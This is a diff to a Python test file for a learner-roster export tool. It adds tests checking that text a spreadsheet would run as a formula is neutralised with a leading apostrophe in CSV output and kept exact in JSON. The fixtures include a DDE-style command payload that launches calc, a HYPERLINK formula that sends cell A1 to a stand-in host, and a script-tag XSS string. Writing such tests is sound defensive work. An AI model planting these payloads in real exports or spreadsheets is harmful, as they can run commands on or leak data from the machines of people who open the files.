@@ -26,13 +26,17 @@ from tests.test_roster_rules import FULL_F, CourseBuilder, day
 
 AS_OF = "2026-11-26"
 XSS = '<script>console.error("xss")</script>'
-# Every status, names with commas and quotes, markup in a name and a department.
+# Text a spreadsheet would run as a formula (OWASP's CSV injection): from HR and from a learner.
+FORMULA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
+FORMULA_DEPARTMENT = "-2+3"
+FORMULA_COMMENT = '=HYPERLINK("example.invalid/?"&A1,"details")'
+# Every status, names with commas and quotes, markup in a name and a department, formulas.
 COHORT = [
     ("ana", 'Okafor, Amara "Ama"', "Platform, Core", "software-engineer"),  # compliant
     ("ben", 'Ben "Benny" O\'Neil, Jr.', "Platform, Core", "software-engineer"),  # due-soon
     ("cat", "Cat Lee", 'R&D "Labs"', "software-engineer"),  # overdue
     ("dan", XSS, "<b>Data</b>", "ml-engineer"),  # in-progress
-    ("eve", "Eve Ng", 'R&D "Labs"', "data-scientist"),  # not-started
+    ("eve", FORMULA_NAME, FORMULA_DEPARTMENT, "data-scientist"),  # not-started
     ("hal", "Hal Ito", "Security", "architect"),  # not in the gradebook
 ]
 
@@ -48,7 +52,7 @@ def build_cohort(root: Path) -> CourseBuilder:
     course.submit("dan", "alpha", {"a-f1": 5}, "2026-11-01", needs_manual={"a-f2"})
     course.gradebook.update_or_create_student("zed", first_name="Zed", last_name="Zulu, Jr.")  # not in HR
     cell = feedback_cell()
-    cell.source = cell.source.replace('"comments": ""', f'"comments": {json.dumps("too long, " + XSS)}').replace(
+    cell.source = cell.source.replace('"comments": ""', f'"comments": {json.dumps(FORMULA_COMMENT + " too long, " + XSS)}').replace(
         '"minutes_spent": None', '"minutes_spent": 95').replace('"difficulty": None', '"difficulty": 5')
     path = root / "autograded" / "dan" / "alpha" / "alpha.ipynb"
     path.parent.mkdir(parents=True)
@@ -81,7 +85,8 @@ def test_csv_round_trips_through_dictreader(outputs):
     assert {i: r["status"] for i, r in by_id.items()} == EXPECTED_STATUS
     names = {learner_id: name for learner_id, name, *_ in COHORT}
     for learner_id in names:
-        assert by_id[learner_id]["name"] == names[learner_id]  # commas, quotes, markup intact
+        # commas, quotes, markup intact; a formula gets its apostrophe (below)
+        assert by_id[learner_id]["name"] == export.spreadsheet_safe(names[learner_id])
     assert by_id["ana"]["department"] == "Platform, Core"
     assert by_id["zed"]["name"] == "Zed Zulu, Jr."
     ben = by_id["ben"]
@@ -115,7 +120,7 @@ def test_json_has_the_same_fields_and_values(outputs):
             elif isinstance(value, float):
                 assert float(row[key]) == value
             else:
-                assert ("" if value is None else str(value)) == row[key]
+                assert export.spreadsheet_safe("" if value is None else str(value)) == row[key]
 
 
 def test_html_is_self_contained_and_escaped(outputs):
@@ -139,7 +144,33 @@ def test_insight_csvs(outputs):
     with open(out / "feedback.csv", newline="") as handle:
         [feedback] = list(csv.DictReader(handle))
     assert feedback == {"learner_id": "dan", "assignment": "alpha", "minutes_spent": "95", "difficulty": "5",
-                        "comments": f"too long, {XSS}"}
+                        "comments": f"'{FORMULA_COMMENT} too long, {XSS}"}
+
+
+def test_text_that_a_spreadsheet_would_run_stays_text(outputs):
+    """No CSV cell begins with a formula trigger: such text gets OWASP's leading apostrophe, and
+    only such text; the JSON keeps it exactly."""
+    _, out = outputs
+    cells = []
+    for name in ("roster.csv", "exercises.csv", "feedback.csv"):
+        with open(out / name, newline="", encoding="utf-8") as handle:
+            cells += [cell for row in csv.reader(handle) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(export.FORMULA_TRIGGERS)]
+    assert {"'" + FORMULA_NAME, "'" + FORMULA_DEPARTMENT} <= set(cells)
+    assert [cell for cell in cells if cell.startswith("'")] == ["'" + FORMULA_NAME, "'" + FORMULA_DEPARTMENT,
+                                                              f"'{FORMULA_COMMENT} too long, {XSS}"]
+    learners = {row["learner_id"]: row for row in json.loads((out / "roster.json").read_text())["learners"]}
+    assert (learners["eve"]["name"], learners["eve"]["department"]) == (FORMULA_NAME, FORMULA_DEPARTMENT)
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
+def test_every_formula_trigger_is_neutralised(text):
+    assert export.spreadsheet_safe(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["", "Eve Ng", "R&D - Labs", "a=b", "'quoted", "1.5"])
+def test_other_text_is_left_as_written(text):
+    assert export.spreadsheet_safe(text) == text
 
 
 def test_unknown_format_is_refused_before_anything_is_recorded(tmp_path):
